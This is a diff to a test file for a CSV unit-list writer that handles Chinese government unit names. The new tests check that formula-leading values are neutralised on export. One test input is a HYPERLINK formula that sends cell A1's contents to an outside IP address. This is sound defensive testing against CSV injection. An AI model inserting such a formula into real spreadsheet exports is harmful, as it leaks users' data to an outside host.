@@ -1,7 +1,9 @@
 import { describe, expect, test } from 'vitest';
 import { rowsOfText } from '../../../src/collection/units/rows-of-text.ts';
 import { readUnitList, writeUnitList } from '../../../src/collection/units/unit-list.ts';
+import { removeSpaces } from '../../../src/lib/fold-text.ts';
 import { makeUnit } from '../../support/make-collection.ts';
+import { parseCsv } from '../../support/parse-csv.ts';
 
 const COUNTY = makeUnit('清源县人民政府', { kind: 'government' });
 const FINANCE = makeUnit('清源县财政局', {
@@ -16,7 +18,7 @@ function read(text: string): ReturnType<typeof readUnitList> {
 describe('readUnitList', () => {
   test.each([
     [
-      'as CONTRACT has it',
+      'with the columns that a saved list has',
       '单位,上级,别名\n清源县人民政府,,\n清源县财政局,清源县人民政府,县财政局；财政局\n',
     ],
     [
@@ -119,4 +121,26 @@ test('a list reads back as it was written', () => {
     '单位,上级,别名,类别\r\n清源县财政局,清源县人民政府,县财政局；财政局,部门\r\n',
   );
   expect(read(writeUnitList(units))).toEqual({ units, problems: [] });
+});
+
+describe('a name that others wrote', () => {
+  test.each(['=HYPERLINK("http://192.0.2.1/?"&A1,"点")', '+1+1', '-2+3', '@SUM(1)', '\t=1+1'])(
+    '%j is no formula in Excel, and reads back',
+    (name) => {
+      const written = writeUnitList([makeUnit(name, { aliases: ['=甲局', '-乙'] })]);
+      expect(
+        parseCsv(written)
+          .flat()
+          .filter((cell) => /^[=+\-@\t\r]/.test(cell)),
+      ).toEqual([]);
+      const [unit] = read(written).units;
+      expect(unit).toMatchObject({ name: removeSpaces(name), aliases: ['=甲局', '-乙'] });
+    },
+  );
+
+  test('a file written earlier reads as it did', () => {
+    expect(read('单位,上级,别名\r\n=甲局,,+甲\r\n').units).toEqual([
+      makeUnit('=甲局', { aliases: ['+甲'] }),
+    ]);
+  });
 });
